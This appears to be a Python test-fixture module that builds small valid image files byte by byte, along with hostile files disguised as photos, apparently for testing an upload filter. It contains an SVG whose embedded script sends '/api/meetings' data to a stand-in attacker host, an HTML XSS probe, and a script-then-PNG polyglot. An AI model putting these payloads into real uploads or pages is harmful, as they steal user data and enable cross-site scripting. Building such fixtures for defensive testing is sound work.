"""Small real photo files, written byte by byte (no imaging library), and hostile files that
pretend to be photos."""

from __future__ import annotations

import base64
import struct
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    """A red RGB PNG of the given size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header)
            + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b""))


def _segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def jpeg() -> bytes:
    """A baseline 8×8 grey JPEG: one block whose coefficients are all zero, coded with a
    one-symbol Huffman table for the DC difference (0) and one for the AC end of block."""
    quantisation = b"\x00" + bytes([1] * 64)
    frame = struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00"
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    scan = b"\x01" + b"\x01\x00" + b"\x00\x3f\x00"
    return (b"\xff\xd8" + _segment(0xDB, quantisation) + _segment(0xC0, frame)
            + _segment(0xC4, b"\x00" + one_code) + _segment(0xC4, b"\x10" + one_code)
            + _segment(0xDA, scan) + b"\x3f" + b"\xff\xd9")


# A 1×1 lossless WebP (the image browsers' feature tests decode).
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")


def heic() -> bytes:
    """The start of a HEIC file as a phone writes it: the `ftyp` box (major brand heic,
    compatible mif1, MiHE, miaf, MiHB, heic), then an empty `meta` box."""
    brands = b"heic" + b"\x00\x00\x00\x00" + b"mif1MiHEmiafMiHBheic"
    ftyp = struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands
    meta = struct.pack(">I", 12) + b"meta" + b"\x00\x00\x00\x00"
    return ftyp + meta


def heif() -> bytes:
    """The start of a HEIF still image that is not HEVC-coded (brand mif1 only)."""
    brands = b"mif1" + b"\x00\x00\x00\x00" + b"mif1miaf"
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands


def avif() -> bytes:
    brands = b"avif" + b"\x00\x00\x00\x00" + b"avifmif1miaf"
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/meetings').then(r => r.text()).then(t => "
    b"navigator.sendBeacon('https://evil.example/', t))</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
# Script first, a PNG after it: a browser sniffing the start would see HTML.
POLYGLOT = b"<script>alert(1)</script>" + png()
